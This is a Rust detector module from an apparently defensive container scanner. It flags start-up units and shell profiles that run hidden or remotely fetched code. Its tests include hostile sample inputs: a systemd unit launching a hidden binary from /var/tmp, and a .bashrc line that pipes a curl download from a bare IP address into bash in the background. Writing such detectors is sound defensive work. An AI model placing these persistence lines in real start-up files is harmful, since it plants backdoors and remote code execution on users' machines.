//! Flags start-up and login files that fetch, decode or run what no package would.
//!
//! Units, `rc.local` and shell profiles run when the container or a session starts.
//!
//! - Sees: systemd units, `etc/init.d`, `etc/rc.local`, `etc/profile*`, `etc/*bashrc`, and the profile files of home folders.
//! - Misses: programs that are bad themselves (their own content is looked at); D-Bus and udev activation.
//! - False alarms: profiles that load a tool from a hidden folder not known here (a sign).
//! - Source: systemd.service(5), bash(1) INVOCATION; ATT&CK T1543.002, T1546.004, T1037.004.

use model::{Category, Confidence, FileKind, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::{Place, shell::startup};

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "init-persistence",
        title: "Start-up file that fetches or hides what it runs",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::High,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1543.002", "T1546.004", "T1037.004"],
    },
    scope: Scope::Place(is_start_up),
    inspect,
};

fn is_start_up(place: &Place<'_>) -> bool {
    if place.kind == FileKind::Elf {
        return false;
    }
    let path = place.path;
    let name = path.rsplit('/').next().unwrap_or_default();
    let is_unit = path.contains("systemd/")
        && [".service", ".timer", ".path", ".socket", ".conf"].iter().any(|end| name.ends_with(end));
    let is_script = path == "etc/rc.local"
        || path == "etc/rc.d/rc.local"
        || path == "etc/profile"
        || path.starts_with("etc/init.d/")
        || path.starts_with("etc/profile.d/");
    let is_profile = matches!(
        name,
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".profile"
            | ".zshrc"
            | ".zprofile"
            | ".zshenv"
            | ".bash_logout"
            | "bash.bashrc"
            | "bashrc"
            | "zshenv"
            | "zshrc"
    ) && (path.starts_with("etc/") || path.starts_with("root/") || path.starts_with("home/"));
    is_unit || is_script || is_profile
}

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let is_unit = sample.place.is_some_and(|place| place.path.contains("systemd/"));
    startup::lines(sample, DETECTOR.about.weight, if is_unit { executed } else { whole })
}

/// All of a script's line is run.
fn whole(line: &str) -> Option<&str> {
    Some(line)
}

/// The command of an `Exec…=` line of a unit.
fn executed(line: &str) -> Option<&str> {
    let (key, command) = line.split_once('=')?;
    key.trim_end().starts_with("Exec").then(|| command.trim_start().trim_start_matches(['-', '@', ':', '+', '!']))
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detectors::testing::check;

    #[test]
    fn a_unit_that_runs_a_hidden_file_is_told() {
        check(
            &DETECTOR,
            "etc/systemd/system/dbus-helper.service",
            b"[Service]\nExecStart=-/var/tmp/.dbus/helper\nRestart=always\n",
            &["runs /var/tmp/.dbus/helper from a temporary folder"],
        );
        check(
            &DETECTOR,
            "root/.bashrc",
            b"(curl -s http://198.51.100.7/k|bash) &\n",
            &["fetches and runs http://198.51.100.7/k from a bare address, in the background"],
        );
    }

    #[test]
    fn ordinary_units_and_profiles_are_silent() {
        check(
            &DETECTOR,
            "usr/lib/systemd/system/x.service",
            b"[Service]\nExecStart=/usr/sbin/x\nPIDFile=/tmp/.x.pid\n",
            &[],
        );
        check(
            &DETECTOR,
            "root/.bashrc",
            b". \"$HOME/.cargo/env\"\n[ -s \"/root/.nvm/nvm.sh\" ] && . \"/root/.nvm/nvm.sh\"\n",
            &[],
        );
        check(&DETECTOR, "srv/readme", b"/tmp/.x/run\n", &[]);
    }
}
